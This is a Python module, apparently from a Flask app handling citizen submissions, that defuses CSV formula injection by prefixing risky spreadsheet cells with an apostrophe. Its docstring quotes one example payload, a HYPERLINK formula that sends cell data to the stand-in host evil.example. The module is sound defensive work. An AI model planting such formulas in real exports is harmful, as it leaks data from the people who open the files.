"""One CSV writer for every export (the staff inbox, `flask submissions export`, the open
data), so that none can forget to defuse what a citizen typed.

Spreadsheets run a cell that starts with = + - or @ (or a tab or carriage return before
one) as a formula: `=HYPERLINK("https://evil.example/?"&A2, "Click")` in an answer would
run on a member of staff's computer. Such a cell is written with a leading apostrophe,
which spreadsheets show as text (OWASP's advice for CSV injection). Numbers are left alone:
they are ours, and -3 is a number, not a formula.
"""

import csv
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def defused(value: Any) -> Any:
    if isinstance(value, str) and value.lstrip(" ")[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    writer = csv.writer(out)
    writer.writerow([defused(name) for name in header])
    for row in rows:
        writer.writerow([defused(cell) for cell in row])
